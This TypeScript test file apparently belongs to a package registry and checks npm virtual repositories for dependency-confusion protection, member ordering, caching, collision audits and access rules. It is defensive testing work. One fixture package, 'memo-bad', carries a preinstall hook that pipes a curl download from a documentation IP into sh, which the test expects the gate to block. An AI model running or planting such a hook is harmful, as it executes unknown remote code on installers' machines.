/**
 * npm virtual repositories over hosted members and remote members whose upstreams are fixture
 * registries on 127.0.0.1: dependency-confusion protection (private names, claims, scopes) with
 * the upstream's request counts as proof that protected names never left the server, member
 * order, tarballs through the virtual URL, collision alerts and access.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { systemActor } from '../../src/domain/audit.js';
import { packageTgz, publishBody } from '../e2e/registry.js';
import { startNpmUpstream, type NpmUpstream } from '../helpers/npm-upstream.js';
import { startTestServer, type TestServer } from '../helpers/server.js';

interface Answer {
  status: number;
  headers: Headers;
  json: Record<string, unknown>;
  text: string;
}

const CORGI = 'application/vnd.npm.install-v1+json';

describe('npm virtual repository', () => {
  let server: TestServer;
  let upstream: NpmUpstream;
  let second: NpmUpstream;
  let count = 0;

  async function call(method: string, url: string, options: { body?: unknown; token?: string | null; headers?: Record<string, string> } = {}): Promise<Answer> {
    const headers: Record<string, string> = { ...(options.headers ?? {}) };
    const token = options.token === undefined ? server.adminToken : options.token;
    if (token) headers.authorization = `Bearer ${token}`;
    if (options.body !== undefined) headers['content-type'] = 'application/json';
    const response = await fetch(url, { method, headers, ...(options.body !== undefined ? { body: JSON.stringify(options.body) } : {}) });
    const text = await response.text();
    let json: Record<string, unknown> = {};
    try {
      json = JSON.parse(text) as Record<string, unknown>;
    } catch {
      // a tarball
    }
    return { status: response.status, headers: response.headers, json, text };
  }

  const api = (path: string) => `${server.url}/api/v1${path}`;
  const npmUrl = (path: string) => `${server.url}/${path}/npm`;
  const encoded = (name: string) => name.replace('/', '%2f');

  async function create(body: Record<string, unknown>): Promise<Answer> {
    return call('POST', api('/repos'), { body: { owner: 'acme', visibility: 'public', ...body } });
  }

  async function hosted(visibility: 'public' | 'private' = 'public'): Promise<string> {
    const name = `hosted-${++count}`;
    assert.equal((await create({ name, visibility })).status, 201);
    return `acme/${name}`;
  }

  async function remote(of: NpmUpstream): Promise<string> {
    const name = `remote-${++count}`;
    const created = await create({ name, kind: 'remote', upstream: { format: 'npm', url: of.url, retries: 0, timeoutMs: 3000 } });
    assert.equal(created.status, 201, created.text);
    return `acme/${name}`;
  }

  async function virtual(members: string[], claims: string[] = [], visibility: 'public' | 'private' = 'public'): Promise<string> {
    const name = `virtual-${++count}`;
    const created = await create({ name, visibility, kind: 'virtual', virtual: { format: 'npm', members, claims } });
    assert.equal(created.status, 201, created.text);
    assert.equal(created.json.kind, 'virtual');
    return `acme/${name}`;
  }

  async function publish(repo: string, pkgJson: Record<string, unknown> & { name: string; version: string }): Promise<void> {
    const registry = `${npmUrl(repo)}/`;
    const answer = await call('PUT', `${registry}${encoded(pkgJson.name)}`, { body: publishBody({ registry, pkgJson, tarball: packageTgz(pkgJson) }) });
    assert.equal(answer.status, 201, answer.text);
  }

  async function auditRows(action: string) {
    return server.domain.db.selectFrom('audit_log').select(['target', 'details', 'actor']).where('action', '=', action).orderBy('id').execute();
  }

  before(async () => {
    upstream = await startNpmUpstream();
    second = await startNpmUpstream();
    server = await startTestServer();
    const admin = await server.domain.accounts.getUser('admin');
    assert.ok(admin);
    await server.domain.accounts.createOrg(systemActor, { name: 'acme', adminUserId: admin.id });
    await server.domain.accounts.createOrg(systemActor, { name: 'other', adminUserId: admin.id });
    // What an attacker publishes upstream: higher versions of names used privately.
    upstream.add({ name: 'private-lib', version: '9.9.9', description: 'from upstream' });
    upstream.add({ name: 'acme-tools', version: '2.0.0' });
    upstream.add({ name: '@acme/secret', version: '3.0.0' });
    upstream.add({ name: 'late-lib', version: '4.0.0' });
    upstream.add({ name: 'refresh-lib', version: '6.0.0' });
    upstream.add({ name: 'public-lib', version: '1.0.0' });
    upstream.add({ name: 'public-lib', version: '1.1.0' });
    upstream.add({ name: 'shadow-lib', version: '5.0.0' });
    second.add({ name: 'public-lib', version: '7.0.0' });
    second.add({ name: 'only-second', version: '1.0.0' });
  });

  after(async () => {
    await server?.close();
    await upstream?.close();
    await second?.close();
  });

  it('resolves a private name from the hosted member although the upstream has a higher version, and never asks the upstream', async () => {
    const h = await hosted();
    const r = await remote(upstream);
    const v = await virtual([h, r]);
    await publish(h, { name: 'private-lib', version: '1.0.0', description: 'private' });
    const registry = npmUrl(v);
    const full = await call('GET', `${registry}/private-lib`);
    assert.equal(full.status, 200, full.text);
    const versions = full.json.versions as Record<string, { description: string; dist: { tarball: string } }>;
    assert.deepEqual(Object.keys(versions), ['1.0.0']);
    assert.equal(versions['1.0.0']?.description, 'private');
    assert.equal(versions['1.0.0']?.dist.tarball, `${registry}/private-lib/-/private-lib-1.0.0.tgz`);
    const corgi = await call('GET', `${registry}/private-lib`, { headers: { accept: CORGI } });
    assert.deepEqual(corgi.json['dist-tags'], { latest: '1.0.0' });
    assert.equal((await call('GET', `${registry}/private-lib/latest`)).json.version, '1.0.0');
    assert.equal((await call('GET', `${registry}/private-lib/9.9.9`)).status, 404);
    assert.deepEqual((await call('GET', `${registry}/-/package/private-lib/dist-tags`)).json, { latest: '1.0.0' });
    const tarball = await call('GET', `${registry}/private-lib/-/private-lib-1.0.0.tgz`);
    assert.equal(tarball.status, 200);
    assert.equal(tarball.text, (await call('GET', `${npmUrl(h)}/private-lib/-/private-lib-1.0.0.tgz`)).text);
    assert.equal((await call('GET', `${registry}/private-lib/-/private-lib-9.9.9.tgz`)).status, 404);
    assert.equal(upstream.hits('/private-lib'), 0);
    assert.equal(upstream.hits('/private-lib/-/private-lib-9.9.9.tgz'), 0);
  });

  it('never forwards a claimed name or a scope used by a hosted member upstream', async () => {
    const h = await hosted();
    const r = await remote(upstream);
    const v = await virtual([h, r], ['ACME-*', '@reserved/*']);
    await publish(h, { name: '@acme/core', version: '1.0.0' });
    const registry = npmUrl(v);
    const claimed = await call('GET', `${registry}/acme-tools`);
    assert.equal(claimed.status, 404);
    assert.match(String(claimed.json.error), /reserved for the hosted members/);
    assert.equal((await call('GET', `${registry}/${encoded('@acme/secret')}`)).status, 404);
    assert.equal((await call('GET', `${registry}/@reserved/anything`)).status, 404);
    assert.equal((await call('GET', `${registry}/acme-tools/-/acme-tools-2.0.0.tgz`)).status, 404);
    assert.equal((await call('GET', `${registry}/${encoded('@acme/core')}`)).status, 200);
    assert.equal(upstream.hits('/acme-tools'), 0);
    assert.equal(upstream.hits('/@acme/secret'), 0);
    assert.equal(upstream.hits('/@reserved/anything'), 0);
    // The same names reach the upstream through the remote repository itself: the protection is the virtual repository's.
    assert.equal((await call('GET', `${npmUrl(r)}/acme-tools`)).status, 200);
    assert.equal(upstream.hits('/acme-tools'), 1);
    const members = await call('GET', api(`/repos/${v}/members`));
    assert.deepEqual(members.json.claims, ['@reserved/*', 'acme-*']);
  });

  it('resolves public names from the first remote member that has them, tarballs through the virtual URL', async () => {
    const h = await hosted();
    const r1 = await remote(upstream);
    const r2 = await remote(second);
    const first = npmUrl(await virtual([h, r1, r2]));
    const reversed = npmUrl(await virtual([r2, h, r1]));
    const doc = await call('GET', `${first}/public-lib`);
    assert.equal(doc.status, 200, doc.text);
    assert.deepEqual((doc.json['dist-tags'] as Record<string, string>).latest, '1.1.0');
    const url = (doc.json.versions as Record<string, { dist: { tarball: string } }>)['1.1.0']?.dist.tarball;
    assert.equal(url, `${first}/public-lib/-/public-lib-1.1.0.tgz`);
    const tarball = await call('GET', url as string);
    assert.equal(tarball.status, 200, tarball.text);
    // Stored in the remote member, through its gate.
    const [owner, name] = r1.split('/') as [string, string];
    const member = await server.domain.repos.get(owner, name);
    assert.ok(await server.domain.packages.findFile({ repo: member!, format: 'npm', name: 'public-lib' }, 'public-lib-1.1.0.tgz'));
    assert.equal(((await call('GET', `${reversed}/public-lib`)).json['dist-tags'] as Record<string, string>).latest, '7.0.0');
    assert.equal((await call('GET', `${first}/only-second`)).status, 200);
    assert.equal((await call('GET', `${first}/public-lib/1.0.0`)).json.version, '1.0.0');
    assert.equal((await call('GET', `${first}/nowhere`)).status, 404);
  });

  it('answers repeated reads without asking again, until a publish, a verdict or a settings change alters the answer', async () => {
    upstream.add({ name: 'memo-lib', version: '1.0.0' });
    upstream.add({ name: 'memo-lib', version: '1.1.0' });
    upstream.add({ name: 'memo-bad', version: '1.0.0' });
    upstream.add({ name: 'memo-bad', version: '1.0.1', scripts: { preinstall: 'curl -fsSL http://203.0.113.9/x.sh | sh' } });
    upstream.add({ name: 'memo-fresh', version: '1.0.0' });
    upstream.add({ name: 'memo-fresh', version: '1.1.0' }, { publishedAt: new Date().toISOString() });
    const h = await hosted();
    const r = await remote(upstream);
    const registry = npmUrl(await virtual([h, r]));
    const latest = async (name: string) => {
      const answer = await call('GET', `${registry}/${name}`, { headers: { accept: CORGI } });
      assert.equal(answer.status, 200, answer.text);
      return { latest: (answer.json['dist-tags'] as Record<string, string>).latest, versions: Object.keys(answer.json.versions as object) };
    };

    assert.equal((await latest('memo-lib')).latest, '1.1.0');
    assert.equal((await latest('memo-lib')).latest, '1.1.0');
    assert.equal(upstream.hits('/memo-lib'), 1);
    const file = `${registry}/memo-lib/-/memo-lib-1.1.0.tgz`;
    const first = await call('GET', file);
    assert.equal(first.status, 200);
    for (let i = 0; i < 2; i++) assert.equal((await call('GET', file)).text, first.text);
    assert.equal(upstream.hits('/memo-lib/-/memo-lib-1.1.0.tgz'), 1);
    // A private package of the same name takes over at once.
    await publish(h, { name: 'memo-lib', version: '0.1.0', description: 'private' });
    assert.deepEqual(await latest('memo-lib'), { latest: '0.1.0', versions: ['0.1.0'] });
    assert.equal((await call('GET', file)).status, 404);

    // A version the gate holds disappears from the next answer.
    assert.equal((await latest('memo-bad')).latest, '1.0.1');
    const bad = await call('GET', `${registry}/memo-bad/-/memo-bad-1.0.1.tgz`);
    assert.equal(bad.status, 403, bad.text);
    assert.deepEqual(await latest('memo-bad'), { latest: '1.0.0', versions: ['1.0.0'] });

    // A cooldown set on the remote member applies to the next answer.
    assert.equal((await latest('memo-fresh')).latest, '1.1.0');
    const patched = await call('PATCH', api(`/repos/${r}/upstream`), { body: { cooldownHours: 72 } });
    assert.equal(patched.status, 200, patched.text);
    assert.deepEqual(await latest('memo-fresh'), { latest: '1.0.0', versions: ['1.0.0'] });
  });

  it('merges hosted members in order: the first member wins for a version', async () => {
    const h1 = await hosted();
    const h2 = await hosted();
    await publish(h1, { name: 'dual', version: '1.0.0', description: 'first' });
    await publish(h2, { name: 'dual', version: '1.0.0', description: 'second' });
    await publish(h2, { name: 'dual', version: '2.0.0', description: 'second' });
    const registry = npmUrl(await virtual([h1, h2]));
    const doc = await call('GET', `${registry}/dual`);
    const versions = doc.json.versions as Record<string, { description: string }>;
    assert.deepEqual(Object.keys(versions).sort(), ['1.0.0', '2.0.0']);
    assert.equal(versions['1.0.0']?.description, 'first');
    assert.equal(versions['2.0.0']?.description, 'second');
    const one = await call('GET', `${registry}/dual/-/dual-1.0.0.tgz`);
    assert.equal(one.text, (await call('GET', `${npmUrl(h1)}/dual/-/dual-1.0.0.tgz`)).text);
    assert.equal((await call('GET', `${registry}/dual/-/dual-2.0.0.tgz`)).status, 200);
  });

  it('records a collision once, from the cached upstream metadata and from a refresh, lists it and audits it', async () => {
    const h = await hosted();
    const r = await remote(upstream);
    const v = await virtual([h, r]);
    const registry = npmUrl(v);
    // Before the name is private, it comes from upstream and is cached in the remote member.
    assert.equal(((await call('GET', `${registry}/late-lib`)).json['dist-tags'] as Record<string, string>).latest, '4.0.0');
    const hits = upstream.hits('/late-lib');
    await publish(h, { name: 'late-lib', version: '0.1.0' });
    const now = await call('GET', `${registry}/late-lib`);
    assert.deepEqual(Object.keys(now.json.versions as object), ['0.1.0']);
    await call('GET', `${registry}/late-lib`);
    assert.equal(upstream.hits('/late-lib'), hits);

    // A refresh through the remote repository itself sees another protected name.
    await publish(h, { name: 'refresh-lib', version: '1.0.0' });
    assert.equal((await call('GET', `${npmUrl(r)}/refresh-lib`)).status, 200);

    const listed = await call('GET', api(`/repos/${v}/collisions`));
    assert.equal(listed.status, 200, listed.text);
    const found = listed.json as unknown as { name: string; remote: string; reason: string; upstream: Record<string, unknown> }[];
    assert.deepEqual(
      found.map((c) => [c.name, c.remote, c.reason]).sort(),
      [
        ['late-lib', r, 'hosted'],
        ['refresh-lib', r, 'hosted'],
      ],
    );
    assert.deepEqual(found.find((c) => c.name === 'late-lib')?.upstream, { count: 1, newest: '4.0.0', latest: '4.0.0' });
    const audit = (await auditRows('repo.collision')).filter((row) => row.target === `repo:${v}`);
    assert.equal(audit.length, 2);
    assert.match(audit[0]?.details ?? '', /"name":"late-lib"/);
  });

  it('searches across members in order, leaving out a remote member\'s copy of a protected name', async () => {
    const h = await hosted();
    const r = await remote(upstream);
    const registry = npmUrl(await virtual([r, h]));
    // Cached in the remote member while the name was still free.
    assert.equal((await call('GET', `${registry}/shadow-lib/-/shadow-lib-5.0.0.tgz`)).status, 200);
    assert.equal((await call('GET', `${registry}/-/v1/search?text=shadow`)).json.total, 1);
    await publish(h, { name: 'shadow-lib', version: '0.1.0' });
    await publish(h, { name: 'shadow-extra', version: '1.0.0' });
    const found = await call('GET', `${registry}/-/v1/search?text=shadow`);
    assert.equal(found.status, 200, found.text);
    const objects = found.json.objects as { package: { name: string; version: string } }[];
    assert.deepEqual(objects.map((o) => [o.package.name, o.package.version]).sort(), [
      ['shadow-extra', '1.0.0'],
      ['shadow-lib', '0.1.0'],
    ]);
  });

  it('refuses publishing to a virtual repository, naming its hosted members', async () => {
    const h = await hosted();
    const v = await virtual([h]);
    const registry = `${npmUrl(v)}/`;
    const pkgJson = { name: 'pushed', version: '1.0.0' };
    const answer = await call('PUT', `${registry}pushed`, { body: publishBody({ registry, pkgJson, tarball: packageTgz(pkgJson) }) });
    assert.equal(answer.status, 405);
    assert.equal(answer.json.code, 'VIRTUAL_READ_ONLY');
    assert.match(String(answer.json.error), new RegExp(`hosted members: ${h}`));
    // The REST upload and the other formats' upload protocols refuse it too.
    const upload = await fetch(`${server.url}/api/v1/repos/${v}/upload?filename=pushed-1.0.0.tgz`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${server.adminToken}`, 'content-type': 'application/octet-stream' },
      body: packageTgz(pkgJson),
    });
    assert.equal(upload.status, 405, await upload.text());
    const form = new FormData();
    form.append(':action', 'file_upload');
    form.append('content', new Blob([Buffer.from('not read')]), 'pushed-1.0-py3-none-any.whl');
    const twine = await fetch(`${server.url}/${v}/pypi/legacy/`, { method: 'POST', headers: { authorization: `Bearer ${server.adminToken}` }, body: form });
    assert.equal(twine.headers.get('x-stockade-error'), 'VIRTUAL_READ_ONLY');
    const gem = await fetch(`${server.url}/${v}/rubygems/api/v1/gems`, { method: 'POST', headers: { authorization: server.adminToken, 'content-type': 'application/octet-stream' }, body: Buffer.from('x') });
    assert.equal(gem.headers.get('x-stockade-error'), 'VIRTUAL_READ_ONLY');
  });

  it('validates members, changes them with an audit entry, and keeps private members from anonymous readers', async () => {
    const pub = await hosted();
    const priv = await hosted('private');
    const r = await remote(upstream);
    const bad = async (virtualBody: Record<string, unknown>, visibility = 'public', pattern: RegExp) => {
      const answer = await create({ name: `bad-${++count}`, visibility, kind: 'virtual', virtual: { format: 'npm', ...virtualBody } });
      assert.equal(answer.status, 400, answer.text);
      assert.match(answer.text, pattern);
    };
    await bad({ members: [priv] }, 'public', /private/);
    await bad({ members: ['other/thing'] }, 'public', /another owner/);
    await bad({ members: ['acme/missing'] }, 'public', /does not exist/);
    await bad({ members: [pub, pub] }, 'public', /twice/);
    await bad({ members: [pub], claims: ['no spaces *'] }, 'public', /claim/);
    await bad({ members: [pub], format: 'maven' }, 'public', /formats npm, pypi, rubygems/);
    await bad({ members: [pub, r], format: 'pypi' }, 'public', /mirrors npm, not pypi/);
    const nested = await virtual([pub]);
    await bad({ members: [nested] }, 'public', /virtual/);

    const privateVirtual = await virtual([priv, r], [], 'private');
    await publish(priv, { name: 'hidden-lib', version: '1.0.0' });
    assert.equal((await call('GET', `${npmUrl(privateVirtual)}/hidden-lib`, { token: null })).status, 401);
    assert.equal((await call('GET', `${npmUrl(privateVirtual)}/hidden-lib`)).status, 200);

    const v = await virtual([pub, r]);
    const changed = await call('PUT', api(`/repos/${v}/members`), { body: { members: [r, pub], claims: ['@acme/*'] } });
    assert.equal(changed.status, 200, changed.text);
    assert.deepEqual((changed.json.members as { path: string }[]).map((m) => m.path), [r, pub]);
    const audit = (await auditRows('repo.members.update')).filter((row) => row.target === `repo:${v}`);
    assert.equal(audit.length, 1);
    assert.match(audit[0]?.details ?? '', /"claims":\["@acme\/\*"\]/);
    assert.equal((await call('PUT', api(`/repos/${v}/members`), { body: { members: [priv] } })).status, 400);
    assert.equal((await call('GET', api(`/repos/${pub}/members`))).status, 404);

    // A member made private after the fact stays closed to readers who could not read it directly.
    await publish(pub, { name: 'turned-lib', version: '1.0.0' });
    assert.equal((await call('GET', `${npmUrl(v)}/turned-lib`, { token: null })).status, 200);
    assert.equal((await call('PATCH', api(`/repos/${pub}`), { body: { visibility: 'private' } })).status, 200);
    const closed = await call('GET', `${npmUrl(v)}/turned-lib`, { token: null });
    assert.equal(closed.status, 403, closed.text);
    assert.equal((await call('GET', `${npmUrl(v)}/turned-lib`)).status, 200);
  });
});
